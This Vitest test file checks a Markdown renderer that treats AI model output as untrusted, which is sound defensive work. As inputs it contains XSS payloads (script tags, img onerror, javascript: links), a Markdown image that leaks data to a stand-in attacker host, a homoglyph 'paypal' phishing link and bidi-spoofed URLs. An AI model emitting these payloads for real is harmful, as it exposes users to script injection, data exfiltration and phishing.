// @vitest-environment jsdom
// jsdom, not happy-dom: DOMPurify under happy-dom keeps event handlers, which would make this test lie.
import { describe, expect, it } from 'vitest';
import { boundNesting, MAX_NESTING, MAX_RENDERED_CHARS, plainTextHtml, renderMarkdown } from './markdown';

describe('renderMarkdown: model output is untrusted', () => {
  it('shows raw HTML as text, never as elements', () => {
    const html = renderMarkdown('Hi <script>alert(1)</script> and <img src=x onerror="alert(2)">');
    expect(html).not.toMatch(/<script|<img/i);
    expect(html).toContain('&lt;script');
  });

  it('turns Markdown images into their alt text, so nothing is fetched', () => {
    const html = renderMarkdown('![secret](https://evil.example/leak?d=123)');
    expect(html).not.toContain('evil.example');
    expect(html).toContain('secret');
  });

  it('keeps only http(s) links, opening safely in a new tab; mailto: and javascript: stay their label', () => {
    const html = renderMarkdown('[a](https://ok.example) [b](mailto:x@y.z) [c](javascript:alert(1)) [d](http://plain.example) mail x@y.z');
    const doc = new DOMParser().parseFromString(html, 'text/html');
    const links = [...doc.querySelectorAll('a')];
    expect(links.map((a) => a.getAttribute('href'))).toEqual(['https://ok.example', 'http://plain.example']);
    expect(html).not.toContain('mailto:');
    expect(doc.body.textContent).toContain(' b ');
    expect(doc.body.textContent).toContain(' c');
    // GFM makes a bare address a mail link: it stays the address, as text.
    expect(doc.body.textContent).toContain('mail x@y.z');
    for (const a of links) {
      expect(a.getAttribute('target')).toBe('_blank');
      expect(a.getAttribute('rel')).toBe('noopener noreferrer');
    }
  });

  it('renders lists, code and tables', () => {
    const html = renderMarkdown('- one\n- two\n\n```\ncode\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |');
    expect(html).toContain('<li>one</li>');
    expect(html).toContain('<pre><code>');
    expect(html).toContain('<table>');
  });
});

describe('renderMarkdown: never throws, whatever the shape', () => {
  const nestedQuotes = '>'.repeat(5000) + ' deep';
  const nestedMix = '> - '.repeat(1300) + 'deep';
  const nestedList = Array.from({ length: 300 }, (_, i) => `${' '.repeat(i * 2)}- level ${i}`).join('\n');
  const emphasis = `${'*'.repeat(3000)}deep${'*'.repeat(3000)}`;

  it.each([
    ['5 KB of nested quotes', nestedQuotes],
    ['5 KB of nested quotes and lists', nestedMix],
    ['a list nested 300 deep', nestedList],
    ['3,000 emphasis markers', emphasis],
  ])('%s: renders, keeps the text, nests at most %#', (_, markdown) => {
    expect(markdown.length).toBeGreaterThan(4000);
    const html = renderMarkdown(markdown);
    expect(html).toMatch(/deep|level 299/);
    const doc = new DOMParser().parseFromString(html, 'text/html');
    let depth = 0;
    for (let node: Element | null = doc.body.querySelector('blockquote, ul, ol'); node; node = node.querySelector(':scope > blockquote, :scope > ul, :scope > ol, :scope > li > ul, :scope > li > blockquote')) depth++;
    expect(depth).toBeLessThanOrEqual(MAX_NESTING);
  });

  it('boundNesting keeps at most MAX_NESTING markers and the text', () => {
    expect(boundNesting('>>>>>>>>>>>>>> x')).toBe(`${'>'.repeat(MAX_NESTING)} x`);
    expect(boundNesting('> > quoted')).toBe('> > quoted');
    expect(boundNesting(`${' '.repeat(200)}- x`)).toBe(`${' '.repeat((MAX_NESTING - 1) * 2)}- x`);
  });

  it('shows an answer too long to render as escaped plain text', () => {
    const html = renderMarkdown(`<b>x</b> ${'word '.repeat(MAX_RENDERED_CHARS / 5)}`);
    expect(html.startsWith('<p>&lt;b&gt;x&lt;/b&gt;')).toBe(true);
    expect(plainTextHtml('a <i>\n\nb')).toBe('<p>a &#60;i&#62;</p><p>b</p>');
  });
});

describe('renderMarkdown: links show where they go', () => {
  const linksOf = (html: string) => [...new DOMParser().parseFromString(html, 'text/html').body.querySelectorAll('a')];
  const textOf = (html: string) => (new DOMParser().parseFromString(html, 'text/html').body.textContent ?? '').trim();

  it('writes the real host beside a labelled link, as punycode for look-alike letters', () => {
    const html = renderMarkdown('[your bank](https://pаypal.com/login)');
    expect(textOf(html)).toBe('your bank (xn--pypal-4ve.com)');
    expect(linksOf(html)[0]!.getAttribute('href')).toBe('https://pаypal.com/login');
  });

  it('adds nothing to a bare URL, which shows its host itself', () => {
    expect(textOf(renderMarkdown('<https://example.com/a>'))).toBe('https://example.com/a');
  });

  it('strips bidi controls, so text cannot be shown in another order', () => {
    const html = renderMarkdown('[https://\u202Emoc.live\u202C](https://evil.example) and \u2066x\u2069');
    expect(html).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
    expect(textOf(html)).toContain('(evil.example)');
  });

  it('lets no class from the answer through except its own host label', () => {
    const html = renderMarkdown('<span class="primary">x</span> [a](https://a.example)');
    const classed = [...new DOMParser().parseFromString(html, 'text/html').body.querySelectorAll('[class]')];
    expect(classed.map((element) => element.outerHTML)).toEqual(['<span class="link-host">(a.example)</span>']);
  });
});
